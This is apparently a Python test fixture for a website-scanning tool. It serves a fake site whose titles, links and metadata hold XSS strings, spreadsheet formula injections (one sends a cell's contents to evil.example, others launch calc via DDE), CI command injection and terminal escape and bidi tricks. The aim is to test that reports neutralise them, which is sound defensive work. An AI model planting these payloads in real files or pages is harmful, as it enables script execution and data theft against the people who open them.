"""A site that attacks whoever reads about it: markup, formulas, commands of terminals and pipelines, hidden characters."""

from __future__ import annotations

import asyncio
import contextlib
import html
import re
import sys
import zlib
from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path

from tests.fetch.faults import Request, serving
from tests.fetch.faults import Site as Server
from tests.fetch.faults import answer as raw_answer
from tests.region import NATIONAL, Silent

from govcheck.config.options import RunOptions
from govcheck.demo.server import load_sites as load_servers
from govcheck.fetch.settings import FetchSettings
from govcheck.records.site import Kind, Level, Site
from govcheck.records.standing import Mark, Review, Standing, State, Waiver
from govcheck.report.build import run_report
from govcheck.report.model import RunReport
from govcheck.scan.run import Target, run
from govcheck.scan.run_folder import RunFolder
from govcheck.scan.toolkit import load_toolkit

HOST = "www.hostile-demo.gov.cn"
TWIN = "www.qingxi-demo.gov.cn"
"""The site of the demo region whose pages are spoilt: it has findings of most sorts."""
AS_OF = date(2026, 6, 15)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点此核验")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
)
MARKUP = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>' onmouseover='alert(1)",
    "</title></style></textarea></script><iframe src=//evil.example></iframe>",
    "[点此](javascript:alert(1)) ![x](http://evil.example/x.png) <javascript:alert(1)>",
    "| a | b |\n|---|---|\n# 标题\n> 引用\n```\n代码\n---\n1. 列表 `反引号",
    "]]> <!-- --> &lt;b&gt; &#27; {{7*7}} {% raw %} ${7*7} %(x)s {subject}",
    "::error file=a,line=1::x%0A::set-output name=a::b ##vso[task.complete] @everyone #1 www.evil.example",
)
HIDDEN = (
    "\x1b[31m红\x1b[0m \x1b]8;;http://evil.example\x07链接\x1b]8;;\x07 \x9b2J",
    "文件\u202egpj.exe\u202c \u2066倒\u2069 \u200b\u200d\ufeff\u2028\u2029 \U000e0041",
    "e" + "\u0301" * 60 + "很长" * 3000,
)
ALL = (*FORMULAS, *MARKUP, *HIDDEN)
SHORT = (*FORMULAS[:5], *MARKUP[:2], "[点](javascript:a)", "`|x|", "\x1b[31m\x07红", "\u202e倒\u200b")
"""Such as still pass for the name of a column."""
MARKS = ("evil.example", "onerror", "javascript:", "HYPERLINK", "cmd|")
"""Words of the attacks that must be found in the reports: else they prove nothing."""


_LINK = re.compile(r"(<a\b[^>]*>)([^<>]{2,40})(</a>)")
_TITLE = re.compile(r"(<(title|h1|h2)\b[^>]*>)([^<>]+)(</\2>)")
_META = re.compile(
    r"""(<meta name="(?:SiteName|SiteIDCode|Column\w+|ArticleTitle|ContentSource|Author)" content=")([^"]*)(")"""
)


def attack(text: str, choices: Sequence[str]) -> str:
    """The text with an attack behind or before it, always the same one for the same text."""
    one = choices[zlib.crc32(text.encode()) % len(choices)]
    return html.escape(one + text if one in FORMULAS else text + one)


def spoilt(body: bytes) -> bytes:
    """A page of the demo region with attacks in its titles, links and META, dead links and stray bytes."""
    for encoding in ("utf-8", "gb18030"):
        with contextlib.suppress(UnicodeDecodeError):
            text = body.decode(encoding)
            break
    text = _LINK.sub(lambda found: found[1] + attack(found[2], SHORT) + found[3], text)
    text = _TITLE.sub(lambda found: found[1] + attack(found[3], ALL) + found[4], text)
    text = _META.sub(lambda found: found[1] + attack(found[2], ALL) + found[3], text)
    gone = (
        """/gone/"><script>alert(1)</script>.html""",
        "/gone/`|/\u202e[x](javascript:a).html",
        "javascript:alert(1)",
        "=cmd|x",
    )
    links = "".join(f'<li><a href="{html.escape(one)}">{html.escape(SHORT[1])}</a> 2026-06-01</li>' for one in gone)
    text = text.replace("</body>", f"<ul>{links}</ul></body>")
    return text.encode(encoding, "xmlcharrefreplace") + b"<p>\x00\x08\x7f</p>"


async def spoiling(request: Request, writer: asyncio.StreamWriter) -> None:
    """Answers as the demo region would, spoilt; what is not there is answered with markup."""
    answer = load_servers()[TWIN].answer(request.target)
    kind = answer.headers.get("content-type", "text/html")
    body = spoilt(answer.body) if "html" in kind else answer.body
    headers = [f"{name}: {value}" for name, value in answer.headers.items()]
    writer.write(raw_answer(answer.status, body, *headers))
    await writer.drain()


async def _scan(folder: RunFolder) -> RunReport:
    server = Server(fallback=spoiling)
    async with serving(server):
        settings = FetchSettings(
            rate=10_000.0,
            address_rate=10_000.0,
            host_concurrency=4,
            second_try_wait=0.0,
            resolve={(HOST, 80): ("127.0.0.1",)},
            resolve_is_dns=True,
            ports={(HOST, 80): server.port},
            ipv6_egress=False,
        )
        site = Site("hostile", MARKUP[0] + HIDDEN[1], f"http://{HOST}/", Level.COUNTY, Kind.PORTAL, "990121")
        toolkit = load_toolkit(RunOptions(as_of=AS_OF, packs=NATIONAL, seed=MARKUP[1], authority=MARKUP[7] + HIDDEN[0]))
        return await run(
            [Target(site)], toolkit, settings, folder, Silent(), options={"name": MARKUP[3], "headers": "a: s3cret"}
        )


def scanned(path: Path) -> RunReport:
    """The site, scanned over loopback; some findings waived or reviewed in hostile words, the others left alone."""
    guard = sys.modules["govcheck_tests_guard"]
    guard.attempts.clear()
    report = asyncio.run(_scan(RunFolder.create(path)))
    assert not guard.attempts
    (site,) = report.sites
    text = MARKUP[1] + FORMULAS[0] + HIDDEN[0]
    at = datetime(2026, 6, 15, tzinfo=UTC)
    standing = {}
    for place, one in enumerate(site.result.findings):
        review = Review(one.fingerprint, (Mark.TRUE, Mark.DOUBTFUL)[place % 2], text, at, MARKUP[4])
        waiver = Waiver(one.fingerprint, text, MARKUP[4], AS_OF, AS_OF)
        standing[one.fingerprint] = (
            Standing(State.WAIVED, waiver=waiver, review=review) if place % 3 == 0 else Standing(review=review)
        )
    return run_report(report.run, [replace(site, standing=standing)])
